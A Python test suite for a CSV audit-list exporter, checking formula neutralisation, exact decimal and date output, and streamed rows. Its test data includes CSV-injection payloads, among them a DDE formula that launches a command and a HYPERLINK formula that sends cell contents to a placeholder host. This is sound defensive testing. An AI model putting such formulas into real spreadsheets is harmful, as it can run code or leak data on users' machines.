"""The audit list as CSV: nothing a spreadsheet would run, nothing lost, nothing rounded, nothing held back."""

import csv
import io
from datetime import UTC, date, datetime, timedelta, timezone
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from utilization.documents.exports import ROWS_A_PIECE, as_typed, csv_pieces, inert

TRIGGERS = "=+-@＝＋－＠"
FORMULAS = [
    "=1+1", "+1", "-1+2", "@SUM(A1)", "=HYPERLINK(\"http://x/?\"&A1,\"click\")", "=cmd|' /C calc'!A0", "\t=1", "\r=1",
    "\n=1", " =1", "＝1", "－1", "\"=1", ";=1", "safe;=1", "safe;\"=1", "line\n=1", "line\r\n+1", "a\t@b", "\0=1",
    "'=1", "''=1", "\ufeff=1", "x|=1",
]  # fmt: skip
cells = st.text(alphabet=st.sampled_from([*TRIGGERS, *" \t\r\n;|,\"'aé7Ω\u200b"]), max_size=12) | st.text(max_size=20)


def written(rows, header=("A", "B")):
    return b"".join(csv_pieces(header, rows))


def read(content, delimiter=","):
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def live(cell):
    """Whether a spreadsheet that drops white space, quotes and unseen characters in front would run it."""
    return cell.lstrip(' \t\r\n"\0\ufeff\u200b')[:1] in tuple(TRIGGERS)


@pytest.mark.parametrize("text", FORMULAS)
def test_no_text_is_left_that_a_spreadsheet_would_run(text):
    content = written([(text, "next")])
    for delimiter in ",;\t|":
        for row in read(content, delimiter):
            for cell in row:
                assert not [line for line in (cell, *cell.splitlines()) if live(line)]


@pytest.mark.long
@given(cells)
def test_text_comes_back_as_it_was_typed(text):
    (_, (cell, _)) = read(written([(text, "")]))
    assert as_typed(cell) == text.replace("\0", "\ufffd").encode("utf-8", "replace").decode()


@given(cells)
def test_what_is_made_inert_begins_no_formula(text):
    assert not live(inert(text))


@given(st.text(alphabet=st.characters(exclude_characters=TRIGGERS + "\0"), max_size=40))
def test_text_that_can_begin_no_formula_is_not_touched(text):
    assert inert(text) == text


@given(st.decimals(allow_nan=False, allow_infinity=False, places=9, min_value=0))
def test_decimals_are_written_to_the_last_place(value):
    (_, (cell,)) = read(written([(value,)], header=["A"]))
    assert Decimal(cell) == value
    assert "e" not in cell.lower()


def test_a_large_decimal_has_no_exponent_and_keeps_its_zeros():
    assert read(written([(Decimal("1E+3"), Decimal("2.50"))]))[1] == ["1000", "2.50"]


def test_each_kind_of_cell_is_written_in_its_one_way():
    vienna = timezone(timedelta(hours=1))
    row = (None, True, False, 7, date(2026, 3, 2), datetime(2026, 3, 2, 10, 0, tzinfo=vienna))
    assert read(written([row], header="abcdef"))[1] == ["", "yes", "no", "7", "2026-03-02", "2026-03-02T09:00:00Z"]


@pytest.mark.parametrize("value", [1.5, Decimal("NaN"), Decimal("Infinity"), b"x", object()])
def test_a_value_without_an_exact_form_is_refused(value):
    with pytest.raises(TypeError, match="cell holds"):
        written([(value, "")])


def test_a_time_without_a_zone_is_refused():
    with pytest.raises(ValueError, match="time zone"):
        written([(datetime(2026, 3, 2, 10, 0), "")])


def test_it_begins_with_the_mark_by_which_a_spreadsheet_knows_utf_8():
    assert written([("Ω", "")]).startswith(b"\xef\xbb\xbfA,B\r\n")


def test_rows_are_taken_as_they_are_sent():
    """A list of any length is never held in memory: after one piece, only that piece's rows were asked for."""
    taken = []

    def rows():
        for number in range(10 * ROWS_A_PIECE):
            taken.append(number)
            yield (number, datetime(2026, 1, 1, tzinfo=UTC))

    pieces = csv_pieces(("N", "At"), rows())
    next(pieces)
    assert taken == []
    next(pieces)
    assert len(taken) == ROWS_A_PIECE
